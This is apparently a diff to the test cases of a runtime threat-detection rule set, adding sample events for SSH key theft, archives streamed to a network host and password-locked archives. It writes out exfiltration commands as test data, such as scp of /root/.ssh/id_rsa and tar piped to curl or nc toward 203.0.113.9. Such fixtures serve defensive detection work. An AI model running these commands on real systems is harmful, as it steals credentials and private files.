@@ -8,12 +8,14 @@ CASES: Cases = {
         [
             started("curl -F f=@/etc/shadow http://203.0.113.9/"),
             started("scp /root/.ssh/id_rsa x@203.0.113.9:"),
+            started("scp /root/.ssh/id_rsa /root/.ssh/id_rsa.pub x@203.0.113.9:"),
             started("wget --post-file=/etc/passwd http://203.0.113.9/"),
         ],
         [
             started("curl -F f=@report.pdf https://example.org/"),
             started("scp -i /root/.ssh/id_rsa report.pdf x@203.0.113.9:"),
             started("rsync -a /srv/ backup:/srv/"),
+            started("scp /root/.ssh/id_ed25519.pub x@203.0.113.9:"),
         ],
     ),
     "Sensitive directories packed": (
@@ -48,5 +50,36 @@ CASES: Cases = {
     "Screen or terminal recorded": (
         [opened("/dev/fb0", "python3 x.py"), opened("/dev/vcsa1", "cat /dev/vcsa1")],
         [opened("/dev/fb0", "Xorg", exe="/usr/lib/xorg/Xorg"), opened("/dev/null", "cat /dev/null")],
+    ),
+    "Archive streamed to the network": (
+        [
+            [
+                started("tar czf - /etc /home", event={"proc.stdout.type": "pipe"}, proc_sid=7),
+                started("curl -s -T - http://203.0.113.9/u", event={"proc.stdin.type": "pipe"}, proc_sid=7),
+            ],
+            [
+                started("nc 203.0.113.9 443", event={"proc.stdin.type": "pipe"}, proc_sid=8),
+                started("tar cf - /home/ann", event={"proc.stdout.type": "pipe"}, proc_sid=8),
+            ],
+        ],
+        [
+            [
+                started("tar czf - /etc /home", event={"proc.stdout.type": "pipe"}, proc_sid=9),
+                started("ssh backup cat", event={"proc.stdin.type": "pipe"}, proc_sid=9),
+                started("curl -s https://example.org", event={"proc.stdin.type": "pipe"}, proc_sid=9),
+            ]
+        ],
+    ),
+    "Archive locked with a password": (
+        [
+            started("zip -q -r -P secret o.zip /home/ann/papers"),
+            started("7z a -psecret o.7z papers"),
+            started("openssl enc -aes-256-cbc -pbkdf2 -k x -out o.bin", event={"proc.stdin.type": "pipe"}),
+        ],
+        [
+            started("zip -q -r o.zip papers"),
+            started("7z x -psecret o.7z"),
+            started("openssl enc -d -aes-256-cbc -k x", event={"proc.stdin.type": "pipe"}),
+        ],
     ),
 }
